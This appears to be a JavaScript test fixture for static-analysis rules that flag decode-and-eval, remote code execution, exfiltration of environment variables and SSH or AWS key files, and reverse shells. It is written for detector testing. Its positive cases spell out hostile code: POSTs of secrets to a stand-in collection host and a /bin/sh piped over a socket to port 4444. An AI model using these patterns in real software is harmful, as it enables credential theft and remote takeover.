import fs from "fs";
import os from "os";
import path from "path";
import net from "net";
import axios from "axios";
import { execSync, spawn, exec } from "child_process";

const p = "Y29uc29sZS5sb2coImluZXJ0Iik=";
// ruleid: skillgate.decode-exec.js-eval
eval(atob(p));
const code = Buffer.from(p, "base64").toString("utf8");
// ruleid: skillgate.decode-exec.js-eval
new Function(code)();
// ruleid: skillgate.decode-exec.js-eval
(0, eval)(code);
// ruleid: skillgate.decode-exec.js-eval
globalThis["ev" + "al"](code);
const e = eval;
// ruleid: skillgate.decode-exec.js-eval
e(code);
// ok: skillgate.decode-exec.js-eval
fs.writeFileSync("out.png", Buffer.from(p, "base64"));
// ok: skillgate.decode-exec.js-eval
const claims = JSON.parse(atob(token.split(".")[1]));

const cmd = Buffer.from("ZWNobyBpbmVydCBleGFtcGxl", "base64").toString();
// ruleid: skillgate.decode-exec.js-shell-blob
execSync(cmd);
// ruleid: skillgate.decode-exec.js-shell-blob
spawn("sh", ["-c", atob("ZWNobyBpbmVydCBleGFtcGxl")]);
// ok: skillgate.decode-exec.js-shell-blob
execSync("git status --porcelain");
// ok: skillgate.decode-exec.js-shell-blob
fs.writeFileSync("logo.png", Buffer.from("iVBORw0KGgoAAAANSUhEUgAA", "base64"));

async function remote(url) {
  const r = await fetch(url);
  const t = await r.text();
  // ruleid: skillgate.download-exec.js-remote-eval
  eval(t);
  // ruleid: skillgate.download-exec.js-remote-eval
  new Function(await (await fetch(url)).text())();
  // ok: skillgate.download-exec.js-remote-eval
  const j = JSON.parse(t);
  // ok: skillgate.download-exec.js-remote-eval
  return new Function("a", "b", "return a + b")(j.a, j.b);
}

async function leak() {
  // ruleid: skillgate.exfiltration.js-env-dump
  await fetch("https://collect.example.invalid/e", { method: "POST", body: JSON.stringify(process.env) });
  const data = { host: os.hostname(), env: process.env };
  // ruleid: skillgate.exfiltration.js-env-dump
  await axios.post("https://collect.example.invalid/e", data);
  const enc = Buffer.from(JSON.stringify(data)).toString("base64");
  // ruleid: skillgate.exfiltration.js-env-dump
  await fetch("https://collect.example.invalid/e", { method: "POST", body: enc });
  // ruleid: skillgate.exfiltration.js-env-dump
  https.request({ hostname: "collect.example.invalid", method: "POST" }).end(enc);
  const out = execSync("ls", { env: process.env });
  // ok: skillgate.exfiltration.js-env-dump
  await fetch("https://api.example.com/logs", { method: "POST", body: out });
  // ok: skillgate.exfiltration.js-env-dump
  await fetch("https://api.example.com/v1", { headers: { Authorization: process.env.EXAMPLE_KEY }, body: JSON.stringify({ team: process.env.EXAMPLE_TEAM }) });
  const cfg = schema.parse({ env: process.env });
  // ok: skillgate.exfiltration.js-env-dump
  await fetch("https://api.example.com/v1", { method: "POST", body: JSON.stringify({ project: cfg.project }) });
}

async function keys() {
  const k = fs.readFileSync(path.join(os.homedir(), ".ssh", "id_rsa"), "utf8");
  // ruleid: skillgate.exfiltration.js-secret-file
  await fetch("https://collect.example.invalid/k", { method: "POST", body: k });
  const files = ["/home/user/.aws/credentials", "/home/user/.ssh/id_ed25519"].map((f) => fs.readFileSync(f, "utf8"));
  // ruleid: skillgate.exfiltration.js-secret-file
  await axios.post("https://collect.example.invalid/k", JSON.stringify({ files }));
  const pub = fs.readFileSync(path.join(os.homedir(), ".ssh", "id_rsa.pub"), "utf8");
  // ok: skillgate.exfiltration.js-secret-file
  await fetch("https://api.example.com/user/keys", { method: "POST", body: JSON.stringify({ key: pub }) });
  const report = fs.readFileSync("report.md", "utf8");
  // ok: skillgate.exfiltration.js-secret-file
  await fetch("https://api.example.com/reports", { method: "POST", body: report });
}

function shell() {
  const sh = spawn("/bin/sh", []);
  const client = new net.Socket();
  client.connect(4444, "198.51.100.7", () => {
    // ruleid: skillgate.reverse-shell.js-socket
    client.pipe(sh.stdin);
    // ruleid: skillgate.reverse-shell.js-socket
    sh.stdout.pipe(client);
  });
}

function compress() {
  const gz = spawn("gzip", ["-c"]);
  const sock = net.connect(9000, "logs.example.com");
  // ok: skillgate.reverse-shell.js-socket
  gz.stdout.pipe(sock);
  const build = spawn("bash", ["build.sh"]);
  // ok: skillgate.reverse-shell.js-socket
  build.stdout.pipe(process.stdout);
}

async function honest() {
  // ok: skillgate.decode-exec.js-eval
  eval(atob(location.hash.slice(1)));
  // ok: skillgate.decode-exec.js-eval
  new Function(Buffer.from(process.argv[2], "base64").toString())();
  // ok: skillgate.decode-exec.js-shell-blob
  const m = pattern.exec(atob("aGVsbG8gd29ybGQgaGVsbG8="));
  // ok: skillgate.decode-exec.js-shell-blob
  spawn("qrencode", [atob("aHR0cHM6Ly92ZW5kb3IuZXhhbXBsZQ==")]);
  const ci = Object.fromEntries(Object.entries(process.env).filter(([k]) => k.startsWith("CI_")));
  // ok: skillgate.exfiltration.js-env-dump
  await fetch("https://ci.vendor.example/builds", { method: "POST", body: JSON.stringify(ci) });
  // ok: skillgate.exfiltration.js-env-dump
  await fetch("http://localhost:3000/debug", { method: "POST", body: JSON.stringify(process.env) });
  const skipped = ["/home/user/.ssh/id_rsa", "wallet.dat"];
  // ok: skillgate.exfiltration.js-secret-file
  await fetch("https://backup.vendor.example", { method: "POST", body: JSON.stringify({ skipped }) });
}

function bridge() {
  const sock = net.connect(9000, "localhost");
  const sh = spawn("bash");
  // ok: skillgate.reverse-shell.js-socket
  sock.pipe(sh.stdin);
  const build = spawn("bash", ["build.sh"]);
  const log = net.connect(514, "logs.vendor.example");
  // ok: skillgate.reverse-shell.js-socket
  build.stdout.pipe(log);
}
